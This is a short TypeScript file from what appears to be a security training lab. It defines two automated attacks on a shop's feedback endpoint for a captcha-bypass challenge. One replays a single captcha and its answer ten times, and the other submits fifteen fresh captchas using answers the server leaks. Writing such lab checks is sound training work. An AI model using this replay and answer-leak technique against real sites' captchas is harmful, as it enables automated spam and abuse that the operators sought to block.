import type { Attack, Tools } from '#lab'
import { type Captcha, newCaptcha } from './steps.ts'

async function write({ http, expect }: Tools, { captchaId, answer }: Captcha): Promise<void> {
  const feedback = { captchaId, captcha: answer, comment: 'Fresh! (anonymous)', rating: 5 }
  const sent = await http.post('/api/Feedbacks/', feedback)
  expect(sent.status === 201, `feedback was answered with ${sent.status}`)
}

export const attacks: Attack[] = [
  {
    challenge: 'captchaBypassChallenge',
    name: 'one captcha, sent ten times with its answer',
    run: async (tools) => {
      const captcha = await newCaptcha(tools.http)
      for (let count = 0; count < 10; count++) await write(tools, captcha)
    },
  },
  {
    challenge: 'captchaBypassChallenge',
    name: 'fifteen fresh ones, each with the answer that the shop sends along',
    run: async (tools) => {
      for (let count = 0; count < 15; count++) await write(tools, await newCaptcha(tools.http))
    },
  },
]
